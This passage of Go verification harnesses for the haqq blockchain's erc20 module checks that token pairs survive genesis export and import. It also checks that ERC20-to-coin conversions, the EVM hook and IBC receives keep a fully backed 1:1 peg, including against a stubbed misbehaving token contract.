	ch := common.Hash{}
	acc := sdk.AccAddress([]byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20})
	va := NewClawbackVestingAccount(authtypes.NewBaseAccountWithAddress(acc), acc, ov, time.Unix(1700000000, 0), lk, vs, &ch)
	if va.Validate() != nil {
		zz.Reach("?refused")
		return
	}
	zz.Assert(c09eSame(lk.TotalAmount(), ov), "a valid account's lockup schedule adds up to the original grant in every denomination")
	zz.Assert(c09eSame(vs.TotalAmount(), ov), "a valid account's vesting schedule adds up to the original grant in every denomination")
	zz.Reach("end")
}
