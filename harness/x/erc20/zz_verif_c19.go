package erc20

// Harness for property C19 (genesis export/import), x/erc20: registered token pairs (with their two lookup indexes) and the
// module parameters survive Export -> Init -> Export.

import (
	sdk "github.com/cosmos/cosmos-sdk/types"
	authkeeper "github.com/cosmos/cosmos-sdk/x/auth/keeper"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	authzkeeper "github.com/cosmos/cosmos-sdk/x/authz/keeper"
	"github.com/ethereum/go-ethereum/common"

	"github.com/haqq-network/haqq/x/erc20/keeper"
	"github.com/haqq-network/haqq/x/erc20/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override (github.com/cosmos/cosmos-sdk/x/auth/keeper.AccountKeeper).GetModuleAccount -> c19GetModuleAccount

func c19GetModuleAccount(ak authkeeper.AccountKeeper, ctx sdk.Context, name string) authtypes.ModuleAccountI {
	return authtypes.NewEmptyModuleAccount(name, authtypes.Minter, authtypes.Burner)
}

func c19Keeper() (keeper.Keeper, sdk.Context) {
	env := zz.NewEnv([]string{"erc20"}, nil)
	k := keeper.NewKeeper(env.Key("erc20"), zz.Codec(), authtypes.NewModuleAddress("gov"), nil, nil, nil, nil, authzkeeper.Keeper{}, nil)
	return k, env.Ctx
}

var c19Pairs = []struct {
	addr  common.Address
	denom string
}{
	{common.HexToAddress("0xE000000000000000000000000000000000000001"), "aLIQUID0"},
	{common.HexToAddress("0x00000000000000000000000000000000000000e2"), "erc20/0x00000000000000000000000000000000000000E2"},
	{common.HexToAddress("0xE000000000000000000000000000000000000003"), "ibc/27394FB092D2ECCD56123C74F36E4C1F926001CEADA9CA97EA622B25F41E5EB2"},
}

// VerifC19_Erc20: Export(Init(Export(S))) = Export(S) for every set of <= N registered pairs (each present or absent, enabled
// or not, either owner) and every parameter setting; lookups by denomination and by contract address answer identically.
func VerifC19_Erc20() {
	n := zz.ParamInt("pairs", 3)
	k1, ctx1 := c19Keeper()
	p := types.NewParams(zz.AnyBool("enableErc20"), zz.AnyBool("enableEVMHook"))
	if err := k1.SetParams(ctx1, p); err != nil {
		panic(err)
	}
	present := 0
	for i := 0; i < n; i++ {
		tag := string(rune('A' + i))
		if !zz.AnyBool("present." + tag) {
			continue
		}
		present++
		owner := types.OWNER_MODULE
		if zz.AnyBool("external." + tag) {
			owner = types.OWNER_EXTERNAL
		}
		pair := types.TokenPair{Erc20Address: c19Pairs[i].addr.Hex(), Denom: c19Pairs[i].denom, Enabled: zz.AnyBool("enabled." + tag), ContractOwner: owner}
		k1.SetTokenPair(ctx1, pair)
		k1.SetDenomMap(ctx1, pair.Denom, pair.GetID())
		k1.SetERC20Map(ctx1, pair.GetERC20Contract(), pair.GetID())
	}
	g1 := ExportGenesis(ctx1, k1)
	if err := g1.Validate(); err != nil {
		zz.Assert(false, "an exported genesis validates: "+err.Error())
	}

	k2, ctx2 := c19Keeper()
	InitGenesis(ctx2, k2, authkeeper.AccountKeeper{}, *g1)
	g2 := ExportGenesis(ctx2, k2)

	zz.Assert(len(g1.TokenPairs) == present && len(g2.TokenPairs) == present, "every registered pair is exported, none invented")
	for i := range g1.TokenPairs {
		if i < len(g2.TokenPairs) {
			a, b := g1.TokenPairs[i], g2.TokenPairs[i]
			zz.Assert(a.Erc20Address == b.Erc20Address && a.Denom == b.Denom && a.Enabled == b.Enabled && a.ContractOwner == b.ContractOwner, "every field of a token pair survives")
		}
	}
	zz.Assert(g1.Params.EnableErc20 == g2.Params.EnableErc20 && g1.Params.EnableEVMHook == g2.Params.EnableEVMHook, "parameters survive")
	for i := 0; i < n; i++ {
		id1, id2 := k1.GetTokenPairID(ctx1, c19Pairs[i].denom), k2.GetTokenPairID(ctx2, c19Pairs[i].denom)
		zz.Assert(string(id1) == string(id2), "lookup by denomination answers identically")
		a1, a2 := k1.GetTokenPairID(ctx1, c19Pairs[i].addr.Hex()), k2.GetTokenPairID(ctx2, c19Pairs[i].addr.Hex())
		zz.Assert(string(a1) == string(a2) && string(a1) == string(id1), "lookup by contract address answers identically")
		p1, f1 := k1.GetTokenPair(ctx1, id1)
		p2, f2 := k2.GetTokenPair(ctx2, id2)
		zz.Assert(f1 == f2 && p1.Enabled == p2.Enabled && p1.ContractOwner == p2.ContractOwner && p1.Denom == p2.Denom, "GetTokenPair answers identically")
	}
	zz.Reach("end")
}
