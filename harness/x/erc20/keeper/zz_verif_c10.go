package keeper

// Harnesses for property C10 (ERC20 <-> coin conversion keeps a 1:1 backed peg).
//
// The token contract is a stub behind the EVM keeper interface: "honest" = the module-deployed ERC20MinterBurnerDecimals
// ledger (mint / burn / burnCoins / transfer / balanceOf), "adversarial" = every call returns an arbitrary success flag and
// every balanceOf an arbitrary number. ABI packing / unpacking is replaced by passing Go values (dependency code).
// Everything in x/erc20/keeper is the real code.

import (
	"context"
	"errors"
	"math/big"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	bankkeeper "github.com/cosmos/cosmos-sdk/x/bank/keeper"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/core/vm"

	"github.com/haqq-network/haqq/x/erc20/types"
	"github.com/haqq-network/haqq/x/evm/statedb"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override (github.com/ethereum/go-ethereum/accounts/abi.ABI).Pack -> c10Pack
//verif:override (github.com/ethereum/go-ethereum/accounts/abi.ABI).Unpack -> c10Unpack
//verif:override (github.com/ethereum/go-ethereum/accounts/abi.ABI).UnpackIntoInterface -> c10UnpackInto
//verif:override (*github.com/ethereum/go-ethereum/accounts/abi.ABI).EventByID -> c10EventByID

var (
	c10Token    = common.HexToAddress("0xE000000000000000000000000000000000000001") // the registered token contract
	c10Stranger = common.HexToAddress("0xE000000000000000000000000000000000000002") // an unregistered contract
	c10User     = common.HexToAddress("0x1000000000000000000000000000000000000001")
	c10Other    = common.HexToAddress("0x3000000000000000000000000000000000000003")
	c10Transfer = common.HexToHash("0x01") // stands for keccak("Transfer(address,address,uint256)")
	c10Approval = common.HexToHash("0x02") // stands for keccak("Approval(address,address,uint256)")
	c10Unknown  = common.HexToHash("0x03")
)

var c10 struct {
	honest       bool
	bal          map[common.Address]*big.Int // token ledger of the honest contract
	total        *big.Int
	method       string
	args         []interface{}
	answer       *big.Int // what the next balanceOf unpacks to
	boolAnswer   bool     // what the next transfer() return value unpacks to
	logAmounts   []*big.Int
	calls        int
	paused       bool
	approvalSeen bool // the adversarial token emitted an Approval log during a call
}

func c10Pack(a abi.ABI, name string, args ...interface{}) ([]byte, error) {
	c10.method, c10.args = name, args
	return []byte{1}, nil
}
func c10Unpack(a abi.ABI, name string, data []byte) ([]interface{}, error) {
	if name == "balanceOf" {
		return []interface{}{c10.answer}, nil
	}
	if name == types.ERC20EventTransfer || name == "Approval" {
		// event data: one byte indexing the amount table
		return []interface{}{c10.logAmounts[int(data[0])]}, nil
	}
	return nil, errors.New("unpack " + name)
}
func c10UnpackInto(a abi.ABI, v interface{}, name string, data []byte) error {
	if r, ok := v.(*types.ERC20BoolResponse); ok {
		r.Value = c10.boolAnswer
		return nil
	}
	return errors.New("unpack into " + name)
}
func c10EventByID(a *abi.ABI, topic common.Hash) (*abi.Event, error) {
	switch topic {
	case c10Transfer:
		return &abi.Event{Name: types.ERC20EventTransfer}, nil
	case c10Approval:
		return &abi.Event{Name: "Approval"}, nil
	}
	return nil, errors.New("no event with this id")
}

func c10Get(a common.Address) *big.Int {
	if v, ok := c10.bal[a]; ok {
		return v
	}
	return new(big.Int)
}

// c10EVM is the EVM keeper behind x/erc20: it runs the token contract stub.
type c10EVM struct{}

func (c10EVM) GetParams(ctx sdk.Context) evmtypes.Params { return evmtypes.DefaultParams() }
func (c10EVM) GetAccountWithoutBalance(ctx sdk.Context, addr common.Address) *statedb.Account {
	if addr == c10Token {
		return &statedb.Account{CodeHash: []byte{1, 2, 3}} // a contract
	}
	return nil
}
func (c10EVM) EstimateGasInternal(c context.Context, req *evmtypes.EthCallRequest, fromType evmtypes.CallType) (*evmtypes.EstimateGasResponse, error) {
	return &evmtypes.EstimateGasResponse{Gas: 100000}, nil
}
func (c10EVM) AddEVMExtensions(ctx sdk.Context, precompiles ...vm.PrecompiledContract) error {
	return nil
}
func (c10EVM) DeleteAccount(ctx sdk.Context, addr common.Address) error { return nil }
func (c10EVM) IsAvailablePrecompile(addr common.Address) bool           { return false }
func (c10EVM) ApplyMessage(ctx sdk.Context, msg core.Message, tracer vm.EVMLogger, commit bool) (*evmtypes.MsgEthereumTxResponse, error) {
	c10.calls++
	ok := &evmtypes.MsgEthereumTxResponse{Ret: []byte{1}}
	failed := &evmtypes.MsgEthereumTxResponse{VmError: "execution reverted"}
	tag := "call" + string(rune('0'+c10.calls))
	if !c10.honest {
		// adversarial contract: arbitrary outcome, arbitrary reported balance, arbitrary return value, maybe an Approval log
		c10.answer = zz.AnyBigAmount(tag+".reportedBalance", 128)
		c10.boolAnswer = zz.AnyBool(tag + ".returns")
		if zz.AnyBool(tag + ".reverts") {
			return failed, nil
		}
		if zz.AnyBool(tag + ".emitsApproval") {
			// Approval(address,address,uint256) with its parameters indexed (3 topics) or declared without "indexed" (same
			// signature hash, 1 topic)
			topics := []string{"0x8c5be1e5ebec7d5bd14f71427d1e84f3dd0314c0f7b2291e5b200ac8c7c3b925"}
			if zz.AnyBool(tag + ".approvalIndexed") {
				topics = append(topics, common.BytesToHash(c10User.Bytes()).Hex(), common.BytesToHash(types.ModuleAddress.Bytes()).Hex())
			}
			ok.Logs = []*evmtypes.Log{{Address: c10Token.Hex(), Topics: topics}}
			if c10.method != "balanceOf" { // a read-only call cannot emit anything
				c10.approvalSeen = true
			}
		}
		return ok, nil
	}
	from := msg.From()
	c10.boolAnswer = true
	if c10.paused && c10.method != "balanceOf" {
		return failed, nil // an honest pausable token: every state-changing call reverts while paused
	}
	switch c10.method {
	case "balanceOf":
		c10.answer = new(big.Int).Set(c10Get(c10.args[0].(common.Address)))
	case "mint":
		if from != types.ModuleAddress {
			return failed, nil // onlyOwner
		}
		to, amt := c10.args[0].(common.Address), c10.args[1].(*big.Int)
		c10.bal[to] = new(big.Int).Add(c10Get(to), amt)
		c10.total = new(big.Int).Add(c10.total, amt)
	case "burnCoins":
		if from != types.ModuleAddress {
			return failed, nil
		}
		who, amt := c10.args[0].(common.Address), c10.args[1].(*big.Int)
		if c10Get(who).Cmp(amt) < 0 {
			return failed, nil
		}
		c10.bal[who] = new(big.Int).Sub(c10Get(who), amt)
		c10.total = new(big.Int).Sub(c10.total, amt)
	case "burn":
		amt := c10.args[0].(*big.Int)
		if c10Get(from).Cmp(amt) < 0 {
			return failed, nil
		}
		c10.bal[from] = new(big.Int).Sub(c10Get(from), amt)
		c10.total = new(big.Int).Sub(c10.total, amt)
	case "transfer":
		to, amt := c10.args[0].(common.Address), c10.args[1].(*big.Int)
		if c10Get(from).Cmp(amt) < 0 {
			return failed, nil
		}
		c10.bal[from] = new(big.Int).Sub(c10Get(from), amt)
		c10.bal[to] = new(big.Int).Add(c10Get(to), amt)
	default:
		return failed, nil
	}
	return ok, nil
}

type c10AK struct{}

func (c10AK) GetModuleAddress(moduleName string) sdk.AccAddress {
	return authtypes.NewModuleAddress(moduleName)
}
func (c10AK) GetSequence(sdk.Context, sdk.AccAddress) (uint64, error)   { return 0, nil }
func (c10AK) GetAccount(sdk.Context, sdk.AccAddress) authtypes.AccountI { return nil }

// c10Bank: coin ledger (one denomination per pair): account balances, module escrow, supply.
type c10Bank struct {
	bankkeeper.Keeper
	bal    map[string]sdkmath.Int
	module sdkmath.Int
	supply sdkmath.Int
	denom  string
}

func (b *c10Bank) get(a sdk.AccAddress) sdkmath.Int {
	if v, ok := b.bal[a.String()]; ok {
		return v
	}
	return sdkmath.ZeroInt()
}
func (b *c10Bank) SendCoinsFromModuleToAccount(ctx sdk.Context, senderModule string, to sdk.AccAddress, amt sdk.Coins) error {
	a := amt.AmountOf(b.denom)
	if b.module.LT(a) {
		return errors.New("insufficient module funds")
	}
	b.module = b.module.Sub(a)
	b.bal[to.String()] = b.get(to).Add(a)
	return nil
}
func (b *c10Bank) SendCoinsFromAccountToModule(ctx sdk.Context, from sdk.AccAddress, recipientModule string, amt sdk.Coins) error {
	a := amt.AmountOf(b.denom)
	if b.get(from).LT(a) {
		return errors.New("insufficient funds")
	}
	b.bal[from.String()] = b.get(from).Sub(a)
	b.module = b.module.Add(a)
	return nil
}
func (b *c10Bank) MintCoins(ctx sdk.Context, moduleName string, amt sdk.Coins) error {
	a := amt.AmountOf(b.denom)
	b.module = b.module.Add(a)
	b.supply = b.supply.Add(a)
	return nil
}
func (b *c10Bank) BurnCoins(ctx sdk.Context, moduleName string, amt sdk.Coins) error {
	a := amt.AmountOf(b.denom)
	if b.module.LT(a) {
		return errors.New("insufficient module funds")
	}
	b.module = b.module.Sub(a)
	b.supply = b.supply.Sub(a)
	return nil
}
func (b *c10Bank) IsSendEnabledCoin(ctx sdk.Context, coin sdk.Coin) bool { return true }
func (b *c10Bank) BlockedAddr(addr sdk.AccAddress) bool                  { return false }
func (b *c10Bank) HasSupply(ctx sdk.Context, denom string) bool          { return true }
func (b *c10Bank) GetBalance(ctx sdk.Context, addr sdk.AccAddress, denom string) sdk.Coin {
	return sdk.NewCoin(denom, b.get(addr))
}

type c10Env struct {
	k    Keeper
	ctx  sdk.Context
	bank *c10Bank
	pair types.TokenPair
}

// c10Setup: one registered, enabled pair. coinOrigin: the module deployed the contract and escrows coins for minted tokens;
// otherwise an external ERC-20 whose tokens the module escrows for minted coins.
func c10Setup(coinOrigin bool) *c10Env {
	env := zz.NewEnv([]string{"erc20"}, nil)
	denom := "acoin"
	owner := types.OWNER_MODULE
	if !coinOrigin {
		denom = "erc20/" + c10Token.Hex()
		owner = types.OWNER_EXTERNAL
	}
	bank := &c10Bank{bal: map[string]sdkmath.Int{}, denom: denom}
	k := Keeper{storeKey: env.Key("erc20"), cdc: zz.Codec(), accountKeeper: c10AK{}, bankKeeper: bank, evmKeeper: c10EVM{}}
	if err := k.SetParams(env.Ctx, types.NewParams(true, true)); err != nil {
		panic(err)
	}
	pair := types.NewTokenPair(c10Token, denom, owner)
	k.SetTokenPair(env.Ctx, pair)
	k.SetDenomMap(env.Ctx, pair.Denom, pair.GetID())
	k.SetERC20Map(env.Ctx, c10Token, pair.GetID())
	// an arbitrary fully backed state
	c10.bal = map[common.Address]*big.Int{}
	c10.calls = 0
	c10.paused = false
	userTokens := zz.AnyBigAmount("tokens.user", 100)
	otherTokens := zz.AnyBigAmount("tokens.other", 100)
	c10.bal[c10User], c10.bal[c10Other] = userTokens, otherTokens
	bank.bal[sdk.AccAddress(c10User.Bytes()).String()] = zz.AnyAmount("coins.user", 100)
	if coinOrigin {
		// every token in circulation is backed by an escrowed coin
		c10.total = new(big.Int).Add(userTokens, otherTokens)
		bank.module = sdkmath.NewIntFromBigInt(c10.total)
		bank.supply = bank.module.Add(bank.get(sdk.AccAddress(c10User.Bytes())))
	} else {
		// every coin in circulation is backed by a token escrowed by the module
		escrowed := zz.AnyBigAmount("tokens.module", 100)
		c10.bal[types.ModuleAddress] = escrowed
		c10.total = new(big.Int).Add(new(big.Int).Add(userTokens, otherTokens), escrowed)
		bank.supply = sdkmath.NewIntFromBigInt(escrowed)
		bank.module = sdkmath.ZeroInt()
		zz.Assume(bank.get(sdk.AccAddress(c10User.Bytes())).LTE(bank.supply))
	}
	return &c10Env{k: k, ctx: env.Ctx, bank: bank, pair: pair}
}

// c10Backed: the peg invariant of the pair.
func c10Backed(e *c10Env, coinOrigin bool) bool {
	if coinOrigin {
		return sdkmath.NewIntFromBigInt(c10.total).Equal(e.bank.module)
	}
	return e.bank.supply.LTE(sdkmath.NewIntFromBigInt(c10Get(types.ModuleAddress)))
}

// VerifC10_ConvertCoin: coins -> tokens by message, both pair kinds, honest contract: exact 1:1 movement, peg preserved.
func VerifC10_ConvertCoin() {
	coinOrigin := zz.Choose("pairKind", 2) == 0
	e := c10Setup(coinOrigin)
	c10.honest = true
	user := sdk.AccAddress(c10User.Bytes())
	amt := zz.AnyAmount("amount", 100)
	coins0, tokens0 := e.bank.get(user), new(big.Int).Set(c10Get(c10Other))
	supply0, total0 := e.bank.supply, new(big.Int).Set(c10.total)
	msg := types.NewMsgConvertCoin(sdk.NewCoin(e.pair.Denom, amt), c10Other, user)
	_, err := e.k.ConvertCoin(sdk.WrapSDKContext(e.ctx), msg)
	if err != nil {
		zz.Reach("rejected") // rolled back by the SDK
		return
	}
	zz.ObserveInt("coinsAfter", e.bank.get(user))
	zz.Assert(e.bank.get(user).Equal(coins0.Sub(amt)), "the sender's coins are debited by exactly the amount")
	zz.Assert(c10Get(c10Other).Cmp(new(big.Int).Add(tokens0, amt.BigInt())) == 0, "the receiver's tokens are credited by exactly the amount")
	if coinOrigin {
		zz.Assert(e.bank.supply.Equal(supply0), "coin supply unchanged (coins are escrowed, not burned)")
		zz.Assert(c10.total.Cmp(new(big.Int).Add(total0, amt.BigInt())) == 0, "token supply grows by exactly the amount")
	} else {
		zz.Assert(e.bank.supply.Equal(supply0.Sub(amt)), "the converted coins are burned")
		zz.Assert(c10.total.Cmp(total0) == 0, "token supply unchanged (escrowed tokens are released)")
	}
	zz.Assert(c10Backed(e, coinOrigin), "the pair stays fully backed")
	zz.Reach("end")
}

// VerifC10_ConvertERC20: tokens -> coins by message, both pair kinds, honest contract.
func VerifC10_ConvertERC20() {
	coinOrigin := zz.Choose("pairKind", 2) == 0
	e := c10Setup(coinOrigin)
	c10.honest = true
	receiver := sdk.AccAddress(c10Other.Bytes())
	amt := zz.AnyAmount("amount", 100)
	coins0, tokens0 := e.bank.get(receiver), new(big.Int).Set(c10Get(c10User))
	supply0, total0 := e.bank.supply, new(big.Int).Set(c10.total)
	msg := types.NewMsgConvertERC20(amt, receiver, c10Token, c10User)
	_, err := e.k.ConvertERC20(sdk.WrapSDKContext(e.ctx), msg)
	if err != nil {
		zz.Reach("rejected")
		return
	}
	zz.Assert(e.bank.get(receiver).Equal(coins0.Add(amt)), "the receiver's coins are credited by exactly the amount")
	zz.Assert(c10Get(c10User).Cmp(new(big.Int).Sub(tokens0, amt.BigInt())) == 0, "the sender's tokens are debited by exactly the amount")
	if coinOrigin {
		zz.Assert(e.bank.supply.Equal(supply0), "coin supply unchanged (escrowed coins are released)")
		zz.Assert(c10.total.Cmp(new(big.Int).Sub(total0, amt.BigInt())) == 0, "the converted tokens are burned")
	} else {
		zz.Assert(e.bank.supply.Equal(supply0.Add(amt)), "coins are minted for exactly the escrowed tokens")
		zz.Assert(c10.total.Cmp(total0) == 0, "token supply unchanged (tokens are escrowed)")
	}
	zz.Assert(c10Backed(e, coinOrigin), "the pair stays fully backed")
	zz.Reach("end")
}

// VerifC10_Adversarial: against a contract that misreports balances, returns arbitrary values and emits Approval events, a
// conversion by message succeeds only if every reported balance moved by exactly the amount and no Approval was seen - and
// then the coin side moved by exactly the amount.
func VerifC10_Adversarial() {
	coinOrigin := zz.Choose("pairKind", 2) == 0
	e := c10Setup(coinOrigin)
	c10.honest = false
	user := sdk.AccAddress(c10User.Bytes())
	amt := zz.AnyAmount("amount", 100)
	coins0, supply0, module0 := e.bank.get(user), e.bank.supply, e.bank.module
	var err error
	toCoins := zz.Choose("direction", 2) == 1
	if toCoins {
		_, err = e.k.ConvertERC20(sdk.WrapSDKContext(e.ctx), types.NewMsgConvertERC20(amt, user, c10Token, c10User))
	} else {
		_, err = e.k.ConvertCoin(sdk.WrapSDKContext(e.ctx), types.NewMsgConvertCoin(sdk.NewCoin(e.pair.Denom, amt), c10User, user))
	}
	if err != nil {
		zz.Reach("rejected")
		return
	}
	if !coinOrigin { // the contract of a coin-origin pair is the module's own; an ERC20-origin pair's contract is foreign code
		zz.Assert(!c10.approvalSeen, "a conversion during which the foreign token emitted an Approval event (indexed or not) is refused")
	}
	// success: the coin side moved by exactly the amount, whatever the contract did
	if toCoins {
		zz.Assert(e.bank.get(user).Equal(coins0.Add(amt)), "coins credited = amount")
		if coinOrigin {
			zz.Assert(e.bank.module.Equal(module0.Sub(amt)) && e.bank.supply.Equal(supply0), "released from escrow, nothing minted")
		} else {
			zz.Assert(e.bank.supply.Equal(supply0.Add(amt)), "minted = amount")
		}
	} else {
		zz.Assert(e.bank.get(user).Equal(coins0.Sub(amt)), "coins debited = amount")
		if coinOrigin {
			zz.Assert(e.bank.module.Equal(module0.Add(amt)) && e.bank.supply.Equal(supply0), "escrowed, nothing burned")
		} else {
			zz.Assert(e.bank.supply.Equal(supply0.Sub(amt)), "burned = amount")
		}
	}
	zz.Reach("accepted")
	zz.Reach("end")
}

// VerifC10_Hook: the EVM hook converts only on a Transfer-to-module log of a registered, enabled contract, by exactly the
// logged amount; every other log (other event, other contract, other recipient, Approval with the module as spender) is ignored.
func VerifC10_Hook() {
	coinOrigin := zz.Choose("pairKind", 2) == 0
	e := c10Setup(coinOrigin)
	c10.honest = true
	n := 1 + zz.Choose("logs", 2)
	c10.logAmounts = nil
	user := sdk.AccAddress(c10User.Bytes())
	coins0, supply0, total0 := e.bank.get(user), e.bank.supply, new(big.Int).Set(c10.total)
	expected := sdkmath.ZeroInt() // coins the hook must hand to the user
	var logs []*ethtypes.Log
	for i := 0; i < n; i++ {
		t := "log" + string(rune('0'+i))
		amount := zz.AnyBigAmount(t+".amount", 100)
		c10.logAmounts = append(c10.logAmounts, amount)
		contract := []common.Address{c10Token, c10Stranger}[zz.Choose(t+".contract", 2)]
		topic0 := []common.Hash{c10Transfer, c10Approval, c10Unknown}[zz.Choose(t+".event", 3)]
		to := []common.Address{types.ModuleAddress, c10Other}[zz.Choose(t+".to", 2)]
		logs = append(logs, &ethtypes.Log{Address: contract, Topics: []common.Hash{topic0, common.BytesToHash(c10User.Bytes()), common.BytesToHash(to.Bytes())}, Data: []byte{byte(i)}})
		if contract == c10Token && topic0 == c10Transfer && to == types.ModuleAddress && amount.Sign() > 0 {
			// the honest contract emits Transfer(user -> module, amount) only when it moved the tokens
			zz.Assume(c10Get(c10User).Cmp(amount) >= 0)
			c10.bal[c10User] = new(big.Int).Sub(c10Get(c10User), amount)
			c10.bal[types.ModuleAddress] = new(big.Int).Add(c10Get(types.ModuleAddress), amount)
			expected = expected.Add(sdkmath.NewIntFromBigInt(amount))
		}
	}
	err := e.k.PostTxProcessing(e.ctx, nil, &ethtypes.Receipt{Logs: logs})
	zz.Assert(err == nil, "the hook never fails the transaction")
	zz.ObserveInt("coinsAfter", e.bank.get(user))
	zz.Assert(e.bank.get(user).Equal(coins0.Add(expected)), "coins handed out = sum of the tokens transferred to the module by the registered contract, nothing else")
	if coinOrigin {
		zz.Assert(e.bank.supply.Equal(supply0), "coin-origin pair: coins come out of escrow, supply unchanged")
		zz.Assert(c10.total.Cmp(new(big.Int).Sub(total0, expected.BigInt())) == 0, "coin-origin pair: the received tokens are burned")
	} else {
		zz.Assert(e.bank.supply.Equal(supply0.Add(expected)), "token-origin pair: coins minted = tokens escrowed")
	}
	zz.Assert(c10Backed(e, coinOrigin), "the pair stays fully backed")
	zz.Reach("end")
}

// VerifC10_HookUntrustedLog: a registered EXTERNAL (ERC20-origin) contract is arbitrary code: it may emit
// Transfer(user -> module, amount) without moving any token. The property demands that the coin supply never exceeds the
// tokens escrowed by the module even then.
func VerifC10_HookUntrustedLog() {
	e := c10Setup(false)
	c10.honest = true
	amount := zz.AnyBigAmount("log.amount", 100)
	zz.Assume(amount.Sign() > 0)
	c10.logAmounts = []*big.Int{amount}
	escrow0 := new(big.Int).Set(c10Get(types.ModuleAddress))
	logs := []*ethtypes.Log{{Address: c10Token, Topics: []common.Hash{c10Transfer, common.BytesToHash(c10User.Bytes()), common.BytesToHash(types.ModuleAddress.Bytes())}, Data: []byte{0}}}
	// the contract emitted the event but its ledger did not change
	err := e.k.PostTxProcessing(e.ctx, nil, &ethtypes.Receipt{Logs: logs})
	zz.Assert(err == nil, "the hook never fails the transaction")
	zz.Assert(c10Get(types.ModuleAddress).Cmp(escrow0) == 0, "(harness) the module's escrowed tokens did not change")
	zz.Assert(c10Backed(e, false), "coin supply never exceeds the tokens escrowed by the module, even against a contract that emits unbacked Transfer events")
	zz.Reach("end")
}
