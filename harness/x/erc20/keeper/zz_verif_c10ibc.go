package keeper

// Harness for property C10 on the IBC receive path: after the ICS-20 module has credited the received coins, the erc20
// middleware converts the recipient's whole balance of a registered denomination into tokens. The conversion writes into the
// context as it goes; when it fails, the middleware must answer with an ERROR acknowledgement - that is what makes IBC core
// discard the whole receive. A success acknowledgement over a half-done conversion would commit escrowed coins without tokens.

import (
	"math/big"

	sdkmath "cosmossdk.io/math"
	"github.com/armon/go-metrics"
	"github.com/cosmos/cosmos-sdk/codec"
	sdk "github.com/cosmos/cosmos-sdk/types"
	transfertypes "github.com/cosmos/ibc-go/v7/modules/apps/transfer/types"
	channeltypes "github.com/cosmos/ibc-go/v7/modules/core/04-channel/types"

	"github.com/haqq-network/haqq/x/erc20/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override (*github.com/cosmos/cosmos-sdk/codec.ProtoCodec).UnmarshalJSON -> c10UnmarshalJSON
//verif:override github.com/haqq-network/haqq/ibc.GetTransferSenderRecipient -> c10SenderRecipient
//verif:override github.com/haqq-network/haqq/ibc.GetReceivedCoin -> c10ReceivedCoin
//verif:override github.com/cosmos/cosmos-sdk/telemetry.IncrCounterWithLabels -> c10IncrCounter
//verif:override github.com/cosmos/cosmos-sdk/telemetry.NewLabel -> c10NewLabel
//verif:override github.com/cosmos/ibc-go/v7/modules/core/04-channel/types.NewErrorAcknowledgement -> c10ErrAck

var c10ibc struct {
	denom    string
	received sdkmath.Int
}

func c10UnmarshalJSON(pc *codec.ProtoCodec, bz []byte, ptr interface{}) error {
	// the packet data were already decoded by the ICS-20 module; hand the same content over
	if d, ok := ptr.(*transfertypes.FungibleTokenPacketData); ok {
		d.Denom, d.Amount = c10ibc.denom, c10ibc.received.String()
		d.Sender, d.Receiver = "cosmos1sender", sdk.AccAddress(c10User.Bytes()).String()
	}
	return nil
}
func c10SenderRecipient(packet channeltypes.Packet) (sender, recipient sdk.AccAddress, senderBech32, recipientBech32 string, err error) {
	return sdk.AccAddress(c10Other.Bytes()), sdk.AccAddress(c10User.Bytes()), "cosmos1sender", sdk.AccAddress(c10User.Bytes()).String(), nil
}
func c10ReceivedCoin(srcPort, srcChannel, dstPort, dstChannel, rawDenom, rawAmt string) sdk.Coin {
	return sdk.NewCoin(c10ibc.denom, c10ibc.received)
}
func c10IncrCounter(keys []string, val float32, labels []metrics.Label) {}
func c10NewLabel(name, value string) metrics.Label                       { return metrics.Label{} }

func c10ErrAck(err error) channeltypes.Acknowledgement {
	return channeltypes.Acknowledgement{Response: &channeltypes.Acknowledgement_Error{Error: "error"}}
}

type c10Staking struct{}

func (c10Staking) BondDenom(ctx sdk.Context) string { return "aISLM" }

// VerifC10_OnRecvPacket: a success acknowledgement is returned only over a consistent state - either nothing was converted
// or the recipient's whole balance became tokens 1:1 and the pair is still backed.
func VerifC10_OnRecvPacket() {
	coinOrigin := zz.Choose("pairKind", 2) == 0
	e := c10Setup(coinOrigin)
	e.k.stakingKeeper = c10Staking{}
	c10.honest = true
	c10.paused = zz.AnyBool("tokenPaused")
	if !zz.AnyBool("erc20Enabled") {
		if err := e.k.SetParams(e.ctx, types.NewParams(false, true)); err != nil {
			panic(err)
		}
	}
	user := sdk.AccAddress(c10User.Bytes())
	// the ICS-20 module has just credited the received vouchers to the recipient
	received := zz.AnyAmount("received", 100)
	c10ibc.denom, c10ibc.received = e.pair.Denom, received
	e.bank.bal[user.String()] = e.bank.get(user).Add(received)
	if coinOrigin {
		e.bank.supply = e.bank.supply.Add(received)
	} else {
		// vouchers of an ERC20-origin pair coming back: they were minted against escrowed tokens when they left
		zz.Assume(e.bank.supply.Add(received).LTE(sdkmath.NewIntFromBigInt(c10Get(types.ModuleAddress))))
		e.bank.supply = e.bank.supply.Add(received)
	}
	coins0, tokens0, module0 := e.bank.get(user), new(big.Int).Set(c10Get(c10User)), e.bank.module
	in := channeltypes.NewResultAcknowledgement([]byte{1})
	out := e.k.OnRecvPacket(e.ctx, channeltypes.Packet{SourcePort: "transfer", SourceChannel: "channel-0", DestinationPort: "transfer", DestinationChannel: "channel-0", Data: []byte{1}}, in)
	success := false
	if a, ok := out.(channeltypes.Acknowledgement); ok {
		_, success = a.Response.(*channeltypes.Acknowledgement_Result)
	}
	if !success {
		// an error acknowledgement makes IBC core discard every write of the receive, including the partial conversion
		zz.Reach("error-ack")
		zz.Reach("end")
		return
	}
	coins1, tokens1 := e.bank.get(user), c10Get(c10User)
	untouched := coins1.Equal(coins0) && tokens1.Cmp(tokens0) == 0 && e.bank.module.Equal(module0)
